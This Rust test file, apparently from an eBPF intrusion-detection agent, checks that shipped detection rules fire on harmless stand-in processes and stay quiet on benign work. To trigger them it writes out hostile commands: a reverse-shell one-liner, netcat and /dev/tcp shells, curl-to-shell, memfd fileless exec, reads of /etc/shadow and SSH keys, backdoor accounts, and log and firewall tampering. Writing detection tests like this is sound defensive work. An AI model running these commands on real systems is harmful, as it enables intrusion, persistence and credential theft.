//! Issue #4: the shipped rules in `rules/` fire on real processes through the
//! real agent (eBPF backend), and a benign workload fires none of them.
//!
//! Every trigger is a real process: a copy of `/bin/true` or `/bin/sh` under
//! the name a rule looks for (in a private directory, never on `PATH`), or
//! `sh -c` for pipelines. Nothing harmful runs: fake tools exit at once and
//! shell redirections point into directories that do not exist.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "tests")]
#![allow(clippy::print_stderr, reason = "tests say why they skip")]

use std::collections::{BTreeSet, HashMap};
use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use daemoneye_tests::{Agent, AgentOptions, copy_executable, is_root, wait_for, work_dir};
use serde_json::Value as Json;

/// The shipped rules directory.
fn shipped_rules() -> Vec<(String, String)> {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules");
    let mut files: Vec<(String, String)> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|x| x == "yaml" || x == "yml"))
        .map(|p| (p.file_name().unwrap().to_string_lossy().into_owned(), std::fs::read_to_string(&p).unwrap()))
        .collect();
    files.sort();
    files
}

/// Copies `src` to `<dir>/<sub>/<name>` and returns the path.
fn fake(dir: &Path, sub: &str, src: &str, name: &str) -> PathBuf {
    let d = dir.join(sub);
    std::fs::create_dir_all(&d).unwrap();
    std::fs::set_permissions(&d, std::fs::Permissions::from_mode(0o755)).unwrap();
    copy_executable(Path::new(src), &d, name)
}

/// Runs a command to completion (output discarded) and returns its pid.
fn run(cmd: &mut Command) -> u32 {
    let mut child =
        daemoneye_tests::spawn_retrying(cmd.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()));
    let pid = child.id();
    child.wait().unwrap();
    pid
}

fn sh(script: &str) -> u32 {
    run(Command::new("/bin/sh").arg("-c").arg(script))
}

/// All alerts, as JSON.
fn alerts(agent: &Agent) -> Vec<Json> {
    agent.cli_json(&["alerts", "list", "--limit", "100000"]).as_array().cloned().unwrap_or_default()
}

/// Whether `a` is about process `pid` or one of its children.
fn about(a: &Json, pid: u32) -> bool {
    a["pid"] == pid || a["row"]["pid"] == pid || a["row"]["ppid"] == pid
}

/// Starts the agent on eBPF with every shipped rule, and waits until kernel
/// events flow (a marker exec reaches `process_events`).
fn start_agent(work: &Path) -> Agent {
    let agent = Agent::start(AgentOptions {
        backend: "ebpf".into(),
        rules: shipped_rules(),
        env: vec![("DAEMONEYE_RULES__TABLE_INTERVAL".into(), "1s".into())],
    });
    let health = agent.cli_json(&["health"]);
    assert_eq!(health["rules_failed"], 0, "shipped rules failed to load: {}", agent.stderr());
    assert!(health["rules_loaded"].as_u64().unwrap() >= 25, "{health}");
    let probe = fake(work, "probe", "/bin/true", "probe-start");
    let flowing = wait_for(Duration::from_secs(30), || {
        run(&mut Command::new(&probe));
        let rows = agent.query("SELECT seq FROM process_events WHERE name = 'probe-start' AND event_type = 'exec'");
        (!rows.is_empty()).then_some(())
    });
    assert!(flowing.is_some(), "no exec events from the eBPF backend:\n{}", agent.stderr());
    agent
}

#[test]
fn shipped_rules_fire_on_real_processes() {
    if !is_root() {
        eprintln!("skipped: shipped_rules_fire_on_real_processes needs root for the eBPF backend");
        return;
    }
    let work = work_dir("rules-e2e");
    let w = work.path();
    let t = |name: &str| fake(w, "true", "/bin/true", name);
    let s = |name: &str| fake(w, "sh", "/bin/sh", name);

    // A running process whose executable is then deleted: the start-up
    // snapshot sees it as such.
    let gone = fake(w, "gone", "/bin/sleep", "gone-binary");
    let mut gone_child = daemoneye_tests::spawn_retrying(Command::new(&gone).arg("300"));
    std::fs::remove_file(&gone).unwrap();

    let agent = start_agent(w);
    let tmp = tempfile::tempdir().unwrap(); // under /tmp
    let nobody = 65534;

    // (rule id, pid the alert is about: the process itself or its parent)
    let mut expect: Vec<(&str, u32)> = vec![("deleted-executable-running", gone_child.id())];
    expect.push((
        "exec-from-tmp",
        run(&mut Command::new(copy_executable(Path::new("/bin/true"), tmp.path(), "dropper"))),
    ));
    expect.push((
        "exec-from-memfd",
        run(Command::new("/usr/bin/perl").arg("-e").arg(
            "open(my $f,'<','/bin/true') or die; binmode $f; local $/; my $b=<$f>; \
             my $n='x'; my $fd=syscall(319,$n,0); die if $fd < 0; open(my $m,'>&=',$fd) or die; binmode $m; \
             syswrite($m,$b) or die; exec {\"/proc/self/fd/$fd\"} 'x' or die",
        )),
    ));
    expect.push(("ld-so-direct", run(Command::new("/lib64/ld-linux-x86-64.so.2").arg("/bin/true"))));
    expect.push(("hidden-executable", run(&mut Command::new(t(".hidden-tool")))));
    expect.push(("download-piped-to-shell", sh("curl -s file:///dev/null | sh")));
    expect.push(("base64-decoded-exec", sh("echo dHJ1ZQo= | base64 -d | sh")));
    expect.push(("reverse-shell-interactive", run(Command::new(s("nc")).args(["-c", "sh -i </dev/null; exit 0"]))));
    expect.push(("netcat-exec-shell", run(Command::new(t("nc")).args(["-e", "/bin/sh", "127.0.0.1", "9"]))));
    expect.push(("dev-tcp-shell", sh("echo x 2>/dev/null >/dev/tcp/127.0.0.1/9; true")));
    expect.push((
        "interpreter-socket-shell",
        run(Command::new(t("python3")).args([
            "-c",
            "import socket,subprocess,os;s=socket.socket();s.connect(('127.0.0.1',9));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])",
        ])),
    ));
    expect.push(("web-server-spawns-shell", run(Command::new(s("nginx")).args(["-c", "sh -c true; exit 0"]))));
    expect.push(("database-spawns-shell", run(Command::new(s("postgres")).args(["-c", "sh -c true; exit 0"]))));
    expect.push((
        "java-app-server-spawns-shell",
        run(Command::new(s("java")).args([
            "-c",
            "sh -c true; exit 0",
            "java",
            "org.apache.catalina.startup.Bootstrap",
        ])),
    ));
    expect.push(("crypto-miner-name", run(&mut Command::new(t("xmrig")))));
    expect.push((
        "crypto-mining-pool-args",
        run(Command::new(t("syshealthd")).args(["-o", "stratum+tcp://pool.example:3333", "--donate-level", "1"])),
    ));
    expect.push(("shadow-file-read", run(Command::new(t("cat")).arg("/etc/shadow"))));
    expect.push(("ssh-private-key-read", run(Command::new(t("cp")).args(["/root/.ssh/id_rsa", "/tmp/k"]))));
    expect.push(("password-cracking-tool", run(Command::new(t("john")).args(["--wordlist=w.txt", "hashes"]))));
    expect.push(("crontab-modified", run(Command::new(t("crontab")).arg("/tmp/evil.cron"))));
    expect.push((
        "cron-file-written",
        sh("echo '* * * * * root true' 2>/dev/null >> /nonexistent-de/etc/cron.d/x; true"),
    ));
    expect.push(("systemd-service-enabled", run(Command::new(t("systemctl")).args(["enable", "--now", "x.service"]))));
    expect.push((
        "authorized-keys-modified",
        sh("echo ssh-ed25519 AAAA 2>/dev/null >> /nonexistent-de/.ssh/authorized_keys; true"),
    ));
    expect.push(("user-account-created", run(Command::new(t("useradd")).args(["-m", "backdoor"]))));
    expect
        .push(("ld-preload-config-write", sh("echo /lib/x.so 2>/dev/null >> /nonexistent-de/etc/ld.so.preload; true")));
    expect.push(("kernel-module-tool", run(Command::new(t("insmod")).arg("rootkit.ko"))));
    expect.push(("pkexec-executed", run(&mut Command::new(t("pkexec")))));
    let sudo = t("sudo");
    expect.push((
        "sudo-shell-unusual-parent",
        run(Command::new(s("perl")).args(["-c", &format!("{} -s; exit 0", sudo.display())])),
    ));
    expect.push(("setuid-bit-set", run(Command::new(t("chmod")).args(["u+s", "/tmp/x"]))));
    let suid = fake(w, "suid", "/bin/true", "sh");
    std::fs::set_permissions(&suid, std::fs::Permissions::from_mode(0o4755)).unwrap();
    expect.push(("setuid-shell", run(Command::new(&suid).uid(nobody).gid(nobody))));
    expect.push(("nsenter-host-namespace", run(Command::new(t("nsenter")).args(["-t", "1", "-m", "-p", "sh"]))));
    expect.push(("history-cleared", sh("history -c 2>/dev/null; true")));
    expect.push(("firewall-disabled", run(Command::new(t("iptables")).arg("-F"))));
    expect.push(("security-controls-disabled", run(Command::new(t("setenforce")).arg("0"))));
    expect.push(("log-files-tampered", run(Command::new(t("shred")).args(["-u", "/var/log/auth.log"]))));
    expect.push(("kernel-thread-masquerade", run(&mut Command::new(t("kworker")))));
    expect.push((
        "discovery-burst",
        run(Command::new(s("recon")).args(["-c", "id; whoami; uname -a; hostname; ps; ip addr; true"])),
    ));
    expect.push(("network-scanner", run(Command::new(t("nmap")).args(["-sS", "10.0.0.0/24"]))));

    // Every shipped rule has a trigger here.
    let listed = agent.cli_json(&["rules", "list"]);
    let ids: BTreeSet<String> =
        listed["rules"].as_array().unwrap().iter().map(|r| r["id"].as_str().unwrap().to_owned()).collect();
    let triggered: BTreeSet<String> = expect.iter().map(|(id, _)| (*id).to_owned()).collect();
    assert_eq!(ids, triggered, "every shipped rule needs a trigger in this test");

    let missing = wait_for(Duration::from_secs(45), || {
        let all = alerts(&agent);
        let missing: Vec<(&str, u32)> = expect
            .iter()
            .filter(|(id, pid)| !all.iter().any(|a| a["rule_id"] == *id && about(a, *pid)))
            .copied()
            .collect();
        missing.is_empty().then_some(())
    });
    gone_child.kill().unwrap();
    gone_child.wait().unwrap();
    if missing.is_none() {
        let all = alerts(&agent);
        let missing: Vec<_> =
            expect.iter().filter(|(id, pid)| !all.iter().any(|a| a["rule_id"] == *id && about(a, *pid))).collect();
        let fired: HashMap<String, usize> = all.iter().fold(HashMap::new(), |mut m, a| {
            *m.entry(a["rule_id"].as_str().unwrap_or("").to_owned()).or_default() += 1;
            m
        });
        panic!("rules that did not fire for their trigger: {missing:?}\nalerts by rule: {fired:?}");
    }
}

#[test]
fn benign_workload_triggers_no_shipped_rule() {
    if !is_root() {
        eprintln!("skipped: benign_workload_triggers_no_shipped_rule needs root for the eBPF backend");
        return;
    }
    let work = work_dir("rules-e2e");
    let agent = start_agent(work.path());
    // A short shell session and a toolchain query, under a parent we can name.
    let session = fake(work.path(), "sh", "/bin/sh", "benign-session");
    let script = "ls / >/dev/null; echo hi | cat; sh -c 'echo hi | cat'; cargo --version; rustc --version; \
                  git --version; uname -r; date; grep -c root /etc/passwd; sort /etc/hostname; \
                  find /etc -maxdepth 1 -name '*.conf' | head -3; true";
    let parent = run(Command::new(&session).args(["-c", script]));
    // Wait until its last child is in the table.
    let ready = wait_for(Duration::from_secs(30), || {
        let rows =
            agent.query(&format!("SELECT count(*) AS n FROM process_events WHERE ppid = {parent} AND name = 'find'"));
        (rows.first().and_then(|r| r["n"].as_i64()).unwrap_or(0) > 0).then_some(())
    });
    assert!(ready.is_some(), "the benign session never reached the table");
    // A table-rule pass after the session: a discovery burst from a canary
    // parent must be alerted on, so the pass that saw it also saw the session.
    let canary = fake(work.path(), "sh", "/bin/sh", "canary-recon");
    let canary_pid = run(Command::new(&canary).args(["-c", "id; whoami; uname; hostname; ps; true"]));
    let passed = wait_for(Duration::from_secs(30), || {
        alerts(&agent).iter().any(|a| a["rule_id"] == "discovery-burst" && about(a, canary_pid)).then_some(())
    });
    assert!(passed.is_some(), "the canary discovery burst was never alerted on");
    let tree = descendants(&agent, parent);
    assert!(tree.len() > 10, "the session's processes were not all seen: {tree:?}");
    let bad: Vec<Json> = alerts(&agent).into_iter().filter(|a| tree.iter().any(|p| about(a, *p))).collect();
    assert!(bad.is_empty(), "benign work raised alerts: {bad:#?}");
}

/// `pid` and the pids of all its descendants, as the agent saw them.
fn descendants(agent: &Agent, pid: u32) -> Vec<u32> {
    let root = agent.query(&format!("SELECT DISTINCT process_key FROM process_events WHERE pid = {pid}"));
    let mut keys: Vec<String> = root.iter().filter_map(|r| r["process_key"].as_str().map(str::to_owned)).collect();
    let mut pids = vec![pid];
    while let Some(k) = keys.pop() {
        for r in agent.query(&format!("SELECT DISTINCT pid, process_key FROM process_events WHERE parent_key = '{k}'"))
        {
            pids.push(u32::try_from(r["pid"].as_u64().unwrap()).unwrap());
            keys.push(r["process_key"].as_str().unwrap().to_owned());
        }
    }
    pids
}
